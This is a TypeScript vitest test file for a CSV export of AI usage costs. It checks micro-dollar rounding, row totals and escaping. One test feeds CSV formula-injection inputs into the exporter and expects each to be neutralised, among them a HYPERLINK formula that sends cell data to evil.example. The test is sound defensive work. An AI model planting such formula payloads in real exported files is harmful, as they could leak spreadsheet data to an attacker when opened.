import { describe, expect, it } from 'vitest'
import type { CostSummary } from '@shared/contract'
import { costReportCsv, costsCsv } from './cost-export'

const tok = (input: number) => ({ input, output: 1, cacheRead: 2, cacheWrite: 0, reasoning: 3 })
const est = (usd: number) => ({ usd, status: 'estimated' as const, complete: true })

const summary: CostSummary = {
  profiles: [{ profile: 'default', own: est(12.065), children: est(0), inclusive: est(12.065), sessions: 2 }],
  total: est(12.065),
  byModel: [
    { model: 'a-model', cost: est(12.06), tokens: tok(100) },
    { model: 'b, "quoted"', cost: est(0.005), tokens: tok(5) }
  ],
  byDay: [
    { day: '2026-12-01', profile: 'default', usd: 0.005, unpriced: true },
    { day: '2026-12-02', profile: 'default', usd: 12.06, unpriced: false }
  ],
  tokensByDay: [{ day: '2026-12-02', profile: 'default', tokens: tok(100) }],
  topSessions: [
    { profile: 'default', sessionId: 's1', title: 'Lisbon trip', own: est(12.06), inclusive: est(12.06) },
    { profile: 'default', sessionId: 's2', title: null, own: est(0.005), inclusive: est(0.005) }
  ]
}

describe('cost report CSV', () => {
  it('keeps integer micro-dollars, half up, written without float formatting', () => {
    const tiny: CostSummary = {
      ...summary,
      byDay: [],
      topSessions: [],
      byModel: [
        { model: 'x', cost: est(12.065), tokens: tok(1) },
        // 12.4999… micro-dollars as a double: half up from the value the host summed (12.5)
        { model: 'y', cost: est(0.0000125), tokens: tok(1) }
      ]
    }
    const lines = costReportCsv(tiny).trimEnd().split('\r\n')
    expect(lines[1]).toBe('model,,,,,x,1,2,1,3,12065000,12.065000,estimated')
    expect(lines[2]).toBe('model,,,,,y,1,2,1,3,13,0.000013,estimated')
  })

  it('has day, session and model rows, each kind summing to the total', () => {
    const lines = costReportCsv(summary).trimEnd().split('\r\n')
    expect(lines[0]).toBe(
      'kind,day,profile,session_id,title,model,input_tokens,cached_tokens,output_tokens,reasoning_tokens,cost_micros,cost_usd,status'
    )
    const rows = lines.slice(1).map((l) => l.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')))
    const kinds = ['day', 'session', 'model']
    for (const kind of kinds) {
      const micros = rows.filter((r) => r[0] === kind).reduce((a, r) => a + Number(r[10]), 0)
      expect(micros, kind).toBe(12_065_000)
    }
    expect(lines).toContain('day,2026-12-01,default,,,,,,,,5000,0.005000,partial')
    expect(lines).toContain('day,2026-12-02,default,,,,100,2,1,3,12060000,12.060000,complete')
    expect(lines).toContain('session,,default,s1,Lisbon trip,,,,,,12060000,12.060000,estimated')
    expect(lines).toContain('model,,,,,"b, ""quoted""",5,2,1,3,5000,0.005000,estimated')
  })

  it('writes no cell a spreadsheet would run as a formula; negative numbers stay numbers', () => {
    const evil: CostSummary = {
      ...summary,
      profiles: [{ profile: '@evil', own: est(-1.5), children: est(0), inclusive: est(-1.5), sessions: 1 }],
      byDay: [{ day: '2026-12-02', profile: '+cmd', usd: -1.5, unpriced: false }],
      tokensByDay: [],
      topSessions: [
        {
          profile: 'default',
          sessionId: '-s1',
          title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          own: est(-1.5),
          inclusive: est(-1.5)
        }
      ],
      byModel: [
        { model: '\tm', cost: est(-1.5), tokens: tok(1) },
        { model: '\r=1+1', cost: est(0), tokens: tok(1) },
        { model: '-2+3', cost: est(0), tokens: tok(1) }
      ]
    }
    const lines = costReportCsv(evil).trimEnd().split('\r\n')
    expect(lines).toContain("day,2026-12-02,'+cmd,,,,,,,,-1500000,-1.500000,complete")
    expect(lines).toContain(
      'session,,default,\'-s1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,,,,-1500000,-1.500000,estimated'
    )
    expect(lines).toContain("model,,,,,'\tm,1,2,1,3,-1500000,-1.500000,estimated")
    expect(lines).toContain('model,,,,,"\'\r=1+1",1,2,1,3,0,0.000000,estimated')
    expect(lines).toContain("model,,,,,'-2+3,1,2,1,3,0,0.000000,estimated")
    expect(costsCsv(evil).split('\r\n')[1]).toBe("'@evil,1,-1.500000,0.000000,-1.500000,estimated,yes")
  })
})
